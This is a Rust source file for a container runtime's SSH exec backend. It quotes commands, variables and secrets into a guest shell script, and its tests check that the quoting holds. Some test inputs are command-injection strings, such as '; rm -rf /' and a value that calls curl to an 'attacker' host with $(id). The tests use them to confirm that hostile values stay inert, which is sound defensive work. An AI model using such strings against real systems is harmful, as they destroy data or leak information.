//! Writes a request as the text for the guest's login shell, and the lines that it reads before the
//! caller's stdin.

use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::{OsStrExt, OsStringExt};

use rt_process::ExecMarker;
use rt_protocol::{Argv, ContainerPath, Env, EnvName, EnvValue, ExecRequest, InvalidValue, Secret};

use super::quoting::push_quoted;
use super::remote_failure::{FailureSentinel, Stage};

/// The default directory of commands. `podman exec` gets the same one from the workdir of such
/// images.
pub const DEFAULT_WORKDIR: &str = "/workspace";

/// The longest text in the exec request itself, in bytes. Dropbear accepts 9,000 (`MAX_CMD_LEN`),
/// and libssh2 sends packets of up to 35,000 (`MAX_SSH_PACKET_LEN`). A shell reads a longer text
/// from its stdin.
const LONGEST_TEXT: usize = 8_000;

/// The longest command, in bytes. No Linux accepts more, whatever its stack (`execve(2)`), and a
/// guest reads it byte by byte.
const MOST_TEXT: usize = 6 << 20;

/// Variables with a meaning to a shell. bash refuses to set some of these, returns its own numbers
/// for others, and changes the rest at every command. `cd` sets two of them in every shell.
const SHELL_NAMES: &[&str] = &[
    "BASH",
    "BASHOPTS",
    "BASHPID",
    "BASH_ALIASES",
    "BASH_ARGC",
    "BASH_ARGV",
    "BASH_ARGV0",
    "BASH_CMDS",
    "BASH_COMMAND",
    "BASH_LINENO",
    "BASH_REMATCH",
    "BASH_SOURCE",
    "BASH_SUBSHELL",
    "BASH_VERSINFO",
    "BASH_VERSION",
    "COMP_WORDBREAKS",
    "DIRSTACK",
    "EPOCHREALTIME",
    "EPOCHSECONDS",
    "EUID",
    "FUNCNAME",
    "GROUPS",
    "HISTCMD",
    "LINENO",
    "OLDPWD",
    "OPTIND",
    "PIPESTATUS",
    "PPID",
    "PWD",
    "RANDOM",
    "SECONDS",
    "SHELLOPTS",
    "SHLVL",
    "SRANDOM",
    "UID",
    "_",
    // Used by the scripts themselves.
    "rt_dir",
    "rt_file",
    "rt_line",
    "rt_stty",
    "rt_text",
    "rt_umask",
];

/// Reads one line of any bytes. In a UTF-8 locale, bash would take a newline after half a character
/// for a part of that character.
const READ_LINE: &str = "LC_ALL=C IFS= read -r rt_line";

/// The stdin of a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Stdin {
    /// No stdin. It is a character device at its end, as with podman: programs that look at their
    /// stdin (`rg`, `grep -r`) would read from a pipe.
    Empty,
    /// The caller's bytes, through a pipe of sshd.
    Piped,
    /// What is typed at the terminal that all three streams are.
    Terminal,
}

/// What a terminal does to the bytes that are typed, in the words of stty(1). All of it is off
/// while the script reads: a long line would be cut off, and some bytes would be interrupts.
const TYPING_MODES: [&str; 6] = ["icanon", "isig", "iexten", "echo", "icrnl", "ixon"];

/// A command for a guest, without the variables of the container, which its connection knows.
#[derive(Debug)]
pub(crate) struct RemoteCommand {
    /// The script before the container's variables, and after them.
    head: Script,
    tail: Script,
    stdin: Stdin,
    /// The lines with the request's secrets.
    secrets: Secret,
    /// The names of the request's own variables.
    names: Vec<EnvName>,
    sentinel: FailureSentinel,
}

/// A command as the guest gets it.
#[derive(Debug)]
pub(crate) struct RemoteText {
    /// The text of the exec request. It contains no secret.
    pub(crate) text: Vec<u8>,
    /// The lines for its stdin, before the caller's bytes. A terminal takes them after
    /// [`FailureSentinel::ready_line`].
    pub(crate) preamble: Option<Secret>,
}

impl RemoteCommand {
    /// Writes the text for `request`. `sentinel` reports failures before the command runs.
    pub(crate) fn new(
        request: &ExecRequest,
        default_workdir: Option<&ContainerPath>,
        stdin: Stdin,
        marker: &ExecMarker,
        sentinel: &FailureSentinel,
    ) -> Result<Self, InvalidValue> {
        let mut script = Script::default();
        // Tracing that a start-up file has turned on would print until the command begins. And
        // without this option, bash exits without its traps if exec(2) fails.
        script.say(
            b"{ set +xv; } 2>/dev/null; ${BASH_VERSION:+trap - DEBUG}; ${BASH_VERSION:+shopt -s execfail}; ",
        );
        let mut secrets = Vec::new();
        if request.env().has_secrets() {
            script.on_failure(sentinel, Stage::Variables);
            for (name, value) in request.env().iter() {
                refuse_taken_name(name)?;
                if let EnvValue::Secret(secret) = value {
                    script.read_variable(name, secret, &mut secrets);
                }
            }
        }
        let head = std::mem::take(&mut script);
        if let Some(workdir) = request.workdir().or(default_workdir) {
            script.on_failure(sentinel, Stage::Workdir);
            script.say(b"cd ");
            script.word(workdir.as_os_str());
            // Hides the directory in which sshd started.
            script.say(b" && unset OLDPWD && ");
        }
        script.on_failure(sentinel, Stage::Variables);
        script.export(EnvName::new(ExecMarker::NAME)?.as_str(), OsStr::new(marker.value()));
        for (name, value) in request.env().iter() {
            refuse_taken_name(name)?;
            if let EnvValue::Plain(value) = value {
                script.export(name.as_str(), value);
            }
        }
        script.on_failure(sentinel, Stage::Start);
        script.begin(sentinel, stdin);
        script.say(b"exec ");
        script.command(request.argv());
        if stdin == Stdin::Empty {
            script.say(b" </dev/null");
        }
        if script.0.len() + head.0.len() + secrets.len() > MOST_TEXT {
            let reason = "with its words and variables it has more than the 6 MiB that Linux takes at most";
            return Err(InvalidValue::new("command", request.argv().program(), reason));
        }
        let names = request.env().iter().map(|(name, _)| name.clone()).collect();
        let secrets = Secret::new(OsString::from_vec(secrets));
        Ok(Self { head, tail: script, stdin, secrets, names, sentinel: sentinel.clone() })
    }

    /// Returns the whole text, for a container with these variables. The request's own variables
    /// override them. Names that the guest's shell or this backend reserves are left out.
    pub(crate) fn text(self, env: &Env) -> RemoteText {
        let Self { head: mut script, tail, stdin, secrets, names, sentinel } = self;
        let mut lines = secrets.expose().as_bytes().to_vec();
        let is_wanted = |name: &EnvName| !names.contains(name) && refuse_taken_name(name).is_ok();
        // The names of locales last: from then on, bash prints a warning for each locale that does
        // not exist.
        let is_locale =
            |name: &EnvName| name.as_str().starts_with("LC_") || name.as_str().starts_with("LANG");
        let (locales, others): (Vec<_>, Vec<_>) =
            env.iter().filter(|(name, _)| is_wanted(name)).partition(|(name, _)| is_locale(name));
        if !(locales.is_empty() && others.is_empty()) {
            script.on_failure(&sentinel, Stage::Variables);
        }
        for (name, value) in others.into_iter().chain(locales) {
            match value {
                EnvValue::Plain(value) => script.export(name.as_str(), value),
                EnvValue::Secret(secret) => script.read_variable(name, secret, &mut lines),
            }
        }
        let is_long = script.0.len() + tail.0.len() > LONGEST_TEXT;
        let reads_terminal = stdin == Stdin::Terminal && (is_long || !lines.is_empty());
        if reads_terminal {
            script.on_failure(&sentinel, Stage::Terminal);
            script.set_typing_modes("");
            script.say(b" && ");
        }
        script.say(&tail.0);
        let RemoteText { text, preamble } = script.finish(lines, &sentinel);
        let mut start = Script::default();
        if reads_terminal {
            start.make_ready(&sentinel);
        }
        start.say(&text);
        RemoteText { text: start.0, preamble }
    }

    /// Writes the text of a login: the default directory, and the command in place of the shell.
    pub(crate) fn login(argv: &Argv, workdir: Option<&ContainerPath>) -> OsString {
        let mut script = Script::default();
        if let Some(workdir) = workdir {
            script.say(b"cd ");
            script.word(workdir.as_os_str());
            script.say(b" && ");
        }
        script.say(b"exec ");
        script.command(argv);
        OsString::from_vec(script.0)
    }
}

/// Refuses a request with variables that no command in a guest can get.
pub(crate) fn refuse_taken_names(request: &ExecRequest) -> Result<(), InvalidValue> {
    request.env().iter().try_for_each(|(name, _)| refuse_taken_name(name))
}

fn refuse_taken_name(name: &EnvName) -> Result<(), InvalidValue> {
    let reason = match name.as_str() {
        // With two values the last one would count. A search for the first would then report the
        // command as gone.
        ExecMarker::NAME => "it is this backend's own: it tells which processes are the command's",
        name if SHELL_NAMES.contains(&name) => "the guest's shell gives it a meaning of its own",
        _ => return Ok(()),
    };
    Err(InvalidValue::new("environment variable name", name.as_str(), reason))
}

/// A shell script under construction.
#[derive(Debug, Default)]
struct Script(Vec<u8>);

impl Script {
    fn say(&mut self, text: &[u8]) {
        self.0.extend_from_slice(text);
    }

    fn word(&mut self, word: &OsStr) {
        push_quoted(&mut self.0, word);
    }

    /// From here on, a shell that ends instead of becoming the command reports the stage on its
    /// stderr, in a separate line even if other text precedes it. The trap is gone together with
    /// the shell's program once `exec` has succeeded.
    fn on_failure(&mut self, sentinel: &FailureSentinel, stage: Stage) {
        let line = format!("trap 'echo \"\n{}$?\" >&2' EXIT && ", sentinel.prefix(stage));
        self.say(line.as_bytes());
    }

    /// Prints on both outputs that the following bytes are the command's own. A terminal is one
    /// output.
    fn begin(&mut self, sentinel: &FailureSentinel, stdin: Stdin) {
        let line = sentinel.begin_line();
        let line = line.trim_end();
        self.say(format!("echo '{line}' && ").as_bytes());
        if stdin != Stdin::Terminal {
            self.say(format!("echo '{line}' >&2 && ").as_bytes());
        }
    }

    /// Prepares a terminal for the lines that the script reads, and says so. `stty` is looked up
    /// now: later, PATH may be the container's.
    fn make_ready(&mut self, sentinel: &FailureSentinel) {
        self.on_failure(sentinel, Stage::Terminal);
        self.say(b"rt_stty=$(command -v stty) && ");
        self.set_typing_modes("-");
        self.say(format!(" && echo '{}' || exit; ", sentinel.ready_line().trim_end()).as_bytes());
    }

    /// Turns the modes on, or off by the sign `-`.
    fn set_typing_modes(&mut self, sign: &str) {
        self.say(b"\"$rt_stty\"");
        for mode in TYPING_MODES {
            self.say(format!(" {sign}{mode}").as_bytes());
        }
    }

    fn export(&mut self, name: &str, value: &OsStr) {
        self.say(b"export ");
        self.say(name.as_bytes());
        self.say(b"=");
        self.word(value);
        self.say(b" && ");
    }

    /// Sets a variable to lines of stdin, and adds those lines to `lines`. `read` takes one byte at
    /// a time from an input that cannot seek, so it consumes none of the caller's bytes.
    fn read_variable(&mut self, name: &EnvName, value: &Secret, lines: &mut Vec<u8>) {
        let value = value.expose().as_bytes();
        lines.extend_from_slice(value);
        lines.push(b'\n');
        self.say(format!("{READ_LINE} && {name}=\"$rt_line\" && ").as_bytes());
        for _ in value.iter().filter(|byte| **byte == b'\n') {
            self.say(format!("{READ_LINE} && {name}=\"${name}\n$rt_line\" && ").as_bytes());
        }
        self.say(format!("export {name} && ").as_bytes());
    }

    /// Appends the words of a command as arguments of `exec`.
    fn command(&mut self, argv: &Argv) {
        let program = argv.program();
        if program.as_bytes().first() == Some(&b'-') {
            // `exec` would take it for an option, and dash knows no `exec --`. So the file is
            // looked up as exec would do it. If it is not found, it becomes a path that never
            // exists: an empty word would give 126 or 127, depending on the shell.
            self.say(b"\"$(IFS=:; for d in $PATH; do f=${d:-.}/");
            self.word(program);
            self.say(b"; [ -f \"$f\" ] && [ -x \"$f\" ] && printf %s \"$f\" && exit; done; printf %s /proc/");
            self.word(program);
            self.say(b")\"");
        } else {
            self.word(program);
        }
        for word in &argv.words()[1..] {
            self.say(b" ");
            self.word(word);
        }
    }

    fn finish(self, secrets: Vec<u8>, sentinel: &FailureSentinel) -> RemoteText {
        let (text, mut lines) = if self.0.len() <= LONGEST_TEXT {
            (self.0, Vec::new())
        } else {
            // Read by `read`, like secrets, up to a line that the text itself cannot contain.
            let end = sentinel.prefix(Stage::Start);
            let reader = format!(
                "rt_text=; while {READ_LINE} && [ \"$rt_line\" != '{end}' ]; do rt_text=\"$rt_text$rt_line\n\"; \
                 done; eval \"$rt_text\""
            );
            let mut lines = self.0;
            lines.extend_from_slice(format!("\n{end}\n").as_bytes());
            (reader.into_bytes(), lines)
        };
        lines.extend_from_slice(&secrets);
        let preamble = (!lines.is_empty()).then(|| Secret::new(OsString::from_vec(lines)));
        RemoteText { text, preamble }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use rt_process::{ExitStatus, Finished, ProcessSpec, Program, capture};
    use rt_protocol::{CapturedOutput, OutputLimit, Source, TerminalSize, Until};

    use super::*;
    use crate::ssh::channel::begin_filter::BeginFilter;
    use crate::ssh::shell::remote_failure::SentinelFilter;

    const SHELLS: [&[&str]; 4] = [&["sh"], &["dash"], &["bash"], &["busybox", "sh"]];

    /// Returns the result for each shell of this machine, run as sshd does it: `SHELL -c TEXT`,
    /// with the preamble and then `stdin` on its stdin.
    fn each_shell(
        request: &ExecRequest,
        workdir: Option<&str>,
        stdin: &[u8],
        check: impl Fn(&str, &Finished, &SentinelFilter),
    ) {
        each_shell_above(&Env::default(), request, workdir, stdin, check);
    }

    /// The same in a container with these variables.
    fn each_shell_above(
        env: &Env,
        request: &ExecRequest,
        workdir: Option<&str>,
        stdin: &[u8],
        check: impl Fn(&str, &Finished, &SentinelFilter),
    ) {
        let workdir = workdir.map(|path| ContainerPath::new(path).unwrap());
        for shell in SHELLS.into_iter().filter(|shell| Program::find(shell[0]).is_ok()) {
            let sentinel = FailureSentinel::fresh();
            let kind = if stdin.is_empty() { Stdin::Empty } else { Stdin::Piped };
            let remote = RemoteCommand::new(request, workdir.as_ref(), kind, &ExecMarker::fresh(), &sentinel)
                .unwrap()
                .text(env);
            let spec = ProcessSpec::new(&Program::find(shell[0]).unwrap())
                .args(&shell[1..])
                .args([OsString::from("-c"), OsString::from_vec(remote.text.clone())]);
            let mut bytes =
                remote.preamble.map(|lines| lines.expose().as_bytes().to_vec()).unwrap_or_default();
            bytes.extend_from_slice(stdin);
            let limit = OutputLimit::UNLIMITED;
            let mut done = capture(&spec, Source::bytes(bytes), limit, limit, &Until::forever()).unwrap();
            let mut watch = SentinelFilter::new(sentinel.clone());
            watch.push(done.stderr_capture.as_bytes(), &mut |_| {});
            for output in [&mut done.stdout_capture, &mut done.stderr_capture] {
                let mut begin = BeginFilter::new(sentinel.begin_line());
                let own = begin.split(output.as_bytes(), &mut |_| {});
                *output = CapturedOutput::complete(own).with_end(output.end());
            }
            check(&shell.join(" "), &done, &watch);
        }
    }

    fn check_output(request: &ExecRequest, stdin: &[u8], expected: &[u8]) {
        each_shell(request, Some("/"), stdin, |shell, done, watch| {
            assert_eq!(done.stdout_capture.as_bytes(), expected, "{shell}: {done:?}");
            assert_eq!((done.status, watch.found()), (Some(ExitStatus::Code(0)), None), "{shell}");
        });
    }

    fn check_failure(request: &ExecRequest, workdir: &str, kind: rt_protocol::ErrorKind) {
        let name = rt_protocol::ContainerName::new("vm").unwrap();
        each_shell(request, Some(workdir), b"", |shell, done, watch| {
            let told = watch.found().unwrap_or_else(|| panic!("{shell}: {done:?}"));
            let path = ContainerPath::new(workdir).unwrap();
            let error = told.into_error("exec in", &name, request, Some(&path));
            assert_eq!(error.kind(), kind, "{shell}: {done:?}");
            let names_it = error.to_string().contains(&format!("`{workdir}`"));
            assert_eq!(names_it, kind == rt_protocol::ErrorKind::BadWorkdir, "{error}");
            assert!(done.stdout_capture.is_empty(), "{shell}");
        });
    }

    #[test]
    fn the_default_directory_and_the_command_stand_in_the_text() {
        let request = ExecRequest::new(["echo", "hi"]).unwrap();
        let workdir = ContainerPath::new(DEFAULT_WORKDIR).unwrap();
        let text = |request: &ExecRequest| {
            let remote = RemoteCommand::new(
                request,
                Some(&workdir),
                Stdin::Piped,
                &ExecMarker::fresh(),
                &FailureSentinel::fresh(),
            )
            .unwrap()
            .text(&Env::default());
            assert!(remote.preamble.is_none());
            String::from_utf8(remote.text).unwrap()
        };
        assert!(text(&request).contains(" cd /workspace && "), "{}", text(&request));
        assert!(text(&request).ends_with(" && exec echo hi"));
        let hostile = ExecRequest::new(["; rm -rf /"]).unwrap();
        assert!(text(&hostile).ends_with("exec '; rm -rf /'"));
        let own = ExecRequest::builder(["pwd"]).workdir("/a b").build().unwrap();
        assert!(text(&own).contains("cd '/a b' && ") && !text(&own).contains(DEFAULT_WORKDIR));
        let login = RemoteCommand::login(&Argv::new(["bash", "-l"]).unwrap(), Some(&workdir));
        assert_eq!(login, "cd /workspace && exec bash -l");
    }

    #[test]
    fn an_empty_stdin_is_a_device_and_another_is_not() {
        let script = "[ -c /dev/stdin ] && printf device; cat";
        let short = ExecRequest::builder(["sh", "-c", script]).secret_env("S", "hunter2").build().unwrap();
        check_output(&short, b"", b"device");
        check_output(&short, b"bytes", b"bytes");
        let long = ExecRequest::new(["sh", "-c", script, &"x".repeat(50_000)]).unwrap();
        check_output(&long, b"", b"device");
    }

    #[test]
    fn a_terminal_is_prepared_only_for_lines_that_the_script_reads() {
        let sentinel = FailureSentinel::fresh();
        let remote = |request: &ExecRequest| {
            RemoteCommand::new(request, None, Stdin::Terminal, &ExecMarker::fresh(), &sentinel)
                .unwrap()
                .text(&Env::default())
        };
        let builder = |word: &str| ExecRequest::builder(["vi", word]).terminal(TerminalSize::default());
        let plain = remote(&builder("a").build().unwrap());
        let text = String::from_utf8(plain.text).unwrap();
        assert!(plain.preamble.is_none() && text.ends_with(" && exec vi a"), "{text}");
        assert_eq!((text.matches(" b' && ").count(), text.matches("stty").count()), (1, 0), "{text}");
        let secret = remote(&builder("a").secret_env("S", "hunter2").build().unwrap());
        let text = String::from_utf8(secret.text).unwrap();
        assert!(secret.preamble.is_some() && text.contains(" -echo ") && text.contains(" echo "), "{text}");
        let long = remote(&builder(&"x".repeat(LONGEST_TEXT)).build().unwrap());
        let lines = String::from_utf8(long.preamble.unwrap().expose().as_bytes().to_vec()).unwrap();
        let text = String::from_utf8(long.text).unwrap();
        assert!(text.contains(" -echo ") && lines.contains(" echo ") && !lines.contains(" -echo "), "{text}");
    }

    #[test]
    fn a_hostile_value_is_one_word() {
        let value = "1; curl http://attacker/$(id)";
        let request = ExecRequest::builder(["sh", "-c", "printf %s \"$X\""]).env("X", value).build().unwrap();
        check_output(&request, b"", value.as_bytes());
    }

    #[test]
    fn a_missing_directory_command_and_permission_are_told_apart() {
        use rt_protocol::ErrorKind::{BadWorkdir, CommandNotExecutable, CommandNotFound};
        let request = |argv: &[&str]| ExecRequest::new(argv.iter().copied()).unwrap();
        check_failure(&request(&["true"]), "/no/such", BadWorkdir);
        check_failure(&request(&["true"]), "/etc/passwd", BadWorkdir);
        check_failure(&request(&["rt-no-such-command"]), "/", CommandNotFound);
        check_failure(&request(&["/no/such"]), "/", CommandNotFound);
        check_failure(&request(&["cd"]), "/", CommandNotFound);
        check_failure(&request(&["A=b"]), "/", CommandNotFound);
        check_failure(&request(&["/etc/passwd"]), "/", CommandNotExecutable);
        check_failure(&request(&["/etc"]), "/", CommandNotExecutable);
    }

    #[test]
    fn too_long_is_told_from_not_executable() {
        // By their paths: BusyBox starts no program for its own commands.
        let check = |request: &ExecRequest| {
            check_failure(request, "/", rt_protocol::ErrorKind::InvalidRequest);
        };
        check(&ExecRequest::new(["/usr/bin/printf", &"x".repeat(128 << 10)]).unwrap());
        let variable = "x".repeat((128 << 10) - 2);
        check(&ExecRequest::builder(["/bin/true"]).env("V", variable.clone()).build().unwrap());
        check(&ExecRequest::builder(["/bin/true"]).secret_env("V", variable).build().unwrap());
        let word = "x".repeat(100_000);
        check(&ExecRequest::new(std::iter::once("/usr/bin/printf").chain([word.as_str(); 24])).unwrap());

        let longest = "x".repeat((128 << 10) - 1);
        let request = ExecRequest::new(["sh", "-c", "printf %s ${#1}", "sh", &longest]).unwrap();
        check_output(&request, b"", b"131071");
        let refused = ExecRequest::new(vec!["x"; 4 << 20]).unwrap();
        let long =
            RemoteCommand::new(&refused, None, Stdin::Empty, &ExecMarker::fresh(), &FailureSentinel::fresh());
        assert!(long.unwrap_err().to_string().contains("6 MiB"));
    }

    #[test]
    fn a_command_that_only_sounds_like_the_shell_is_believed() {
        let request =
            ExecRequest::new(["sh", "-c", "echo 'sh: 1: exec: x: not found' >&2; exit 127"]).unwrap();
        each_shell(&request, None, b"", |shell, done, watch| {
            assert_eq!((done.status, watch.found()), (Some(ExitStatus::Code(127)), None), "{shell}");
        });
    }

    #[test]
    fn programs_named_like_options_or_assignments_run() {
        let bin = tempfile::tempdir().unwrap();
        for name in ["-c", "-l=x", "A=b"] {
            let path = bin.path().join(name);
            std::fs::write(&path, "#!/bin/sh\nprintf '%s,' ran \"$@\"\n").unwrap();
            std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
            let path = format!("/nowhere:{}:/usr/bin:/bin", bin.path().display());
            let request = ExecRequest::builder([name, "-x", "a b"]).env("PATH", path).build().unwrap();
            check_output(&request, b"", b"ran,-x,a b,");
        }
    }

    #[test]
    fn secrets_travel_by_stdin_and_leave_the_callers_bytes_alone() {
        let request = ExecRequest::builder(["sh", "-c", "printf '%s|%s|' \"$ONE\" \"$TWO\"; cat"])
            .secret_env("ONE", "hunter2")
            .secret_env("TWO", " a\\b\n\n$(id) ")
            .build()
            .unwrap();
        check_output(&request, b"the caller's\nown", b"hunter2| a\\b\n\n$(id) |the caller's\nown");
        let remote =
            RemoteCommand::new(&request, None, Stdin::Piped, &ExecMarker::fresh(), &FailureSentinel::fresh())
                .unwrap()
                .text(&Env::default());
        assert!(!String::from_utf8_lossy(&remote.text).contains("hunter2"));
        assert!(!format!("{remote:?}").contains("hunter2"));
    }

    #[test]
    fn container_variables_lie_below_the_requests() {
        let mut env = Env::default();
        env.set("PLAIN", "it's\n$(id)").unwrap();
        env.set("BOTH", "container").unwrap();
        for (name, value) in [
            ("LC_ALL", "xx_XX.nosuch"),
            ("HIDDEN", " \"a\\b\n\n'$(id)' "),
            ("LOWER", "container"),
            ("EMPTY", ""),
            ("IFS", "x"),
            ("UID", "7"),
            (ExecMarker::NAME, "stolen"),
        ] {
            env.set_secret(name, Secret::new(value)).unwrap();
        }
        let script = "printf '%s|' \"$PLAIN\" \"$BOTH\" \"$HIDDEN\" \"$LOWER\" \"${EMPTY-unset}\" \"$LC_ALL\"; cat; env >&2";
        let request = ExecRequest::builder(["sh", "-c", script])
            .env("BOTH", "request")
            .secret_env("LOWER", "hunter2")
            .build()
            .unwrap();
        let expected =
            "it's\n$(id)|request| \"a\\b\n\n'$(id)' |hunter2||xx_XX.nosuch|the caller's\n".as_bytes();
        each_shell_above(&env, &request, Some("/"), b"the caller's\n", |shell, done, watch| {
            assert_eq!(done.stdout_capture.as_bytes(), expected, "{shell}: {done:?}");
            assert_eq!(watch.found(), None, "{shell}");
            let seen = done.stderr_capture.text();
            assert!(!seen.contains("stolen") && !seen.contains("setlocale"), "{shell}: {seen}");
        });
        let remote =
            RemoteCommand::new(&request, None, Stdin::Piped, &ExecMarker::fresh(), &FailureSentinel::fresh());
        let text = String::from_utf8(remote.unwrap().text(&env).text).unwrap();
        assert!(text.contains("PLAIN=") && !text.contains("hunter2") && !text.contains("nosuch"), "{text}");
    }

    #[test]
    fn the_containers_path_finds_the_program() {
        let bin = tempfile::tempdir().unwrap();
        let path = bin.path().join("rt-only-here");
        std::fs::write(&path, "#!/bin/sh\nprintf ran\n").unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let mut env = Env::default();
        env.set_secret("PATH", Secret::new(format!("{}:/usr/bin:/bin", bin.path().display()))).unwrap();
        let request = ExecRequest::new(["rt-only-here"]).unwrap();
        each_shell_above(&env, &request, Some("/"), b"", |shell, done, _| {
            assert_eq!(done.stdout_capture.as_bytes(), b"ran", "{shell}: {done:?}");
        });
    }

    #[test]
    fn a_text_that_no_request_could_hold_is_read_by_the_shell() {
        let long = "x'y ".repeat(25_000);
        let request = ExecRequest::builder(["sh", "-c", "printf '%s,%s,' \"$1\" \"$S\"; cat", "sh", &long])
            .secret_env("S", "hunter2")
            .build()
            .unwrap();
        let remote =
            RemoteCommand::new(&request, None, Stdin::Piped, &ExecMarker::fresh(), &FailureSentinel::fresh())
                .unwrap()
                .text(&Env::default());
        assert!(remote.text.len() < 1000);
        check_output(&request, b"rest", format!("{long},hunter2,rest").as_bytes());
    }

    #[test]
    fn reserved_variable_names_are_refused() {
        for name in ["UID", "RANDOM", "SHLVL", "_", "PWD", "OLDPWD", "rt_line", ExecMarker::NAME] {
            for request in [
                ExecRequest::builder(["true"]).env(name, "1").build().unwrap(),
                ExecRequest::builder(["true"]).secret_env(name, "1").build().unwrap(),
            ] {
                let refused = RemoteCommand::new(
                    &request,
                    None,
                    Stdin::Piped,
                    &ExecMarker::fresh(),
                    &FailureSentinel::fresh(),
                )
                .unwrap_err();
                assert!(refused.to_string().contains(name), "{refused}");
            }
        }
    }

    /// A value cannot contain NUL.
    fn value() -> impl Strategy<Value = Vec<u8>> {
        proptest::collection::vec(prop_oneof![1u8.., Just(b'\n'), Just(b'\\'), Just(b'\'')], 0..24)
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(48))]

        #[test]
        fn every_argv_and_variable_arrives_as_it_left(word in value(), plain in value(), secret in value(), stdin in value()) {
            let request = ExecRequest::builder([
                OsString::from("sh"), OsString::from("-c"),
                OsString::from("printf '%s\\0' \"$1\"; env -0 | grep -az '^RT_[PS]='; cat"),
                OsString::from("sh"), OsString::from_vec(word.clone()),
            ])
            .env("RT_P", OsString::from_vec(plain.clone()))
            .secret_env("RT_S", Secret::new(OsString::from_vec(secret.clone())))
            .build()
            .unwrap();
            each_shell(&request, Some("/"), &stdin, |shell, done, _| {
                let got = done.stdout_capture.as_bytes();
                let parts: Vec<&[u8]> = got.splitn(4, |byte| *byte == 0).collect();
                assert_eq!(parts.len(), 4, "{shell}: {done:?}");
                assert_eq!(parts[0], word, "{shell}");
                let mut vars = [parts[1], parts[2]];
                vars.sort_unstable();
                assert_eq!(vars[0], [b"RT_P=", &plain[..]].concat(), "{shell}");
                assert_eq!(vars[1], [b"RT_S=", &secret[..]].concat(), "{shell}");
                assert_eq!(parts[3], stdin, "{shell}");
            });
        }
    }
}
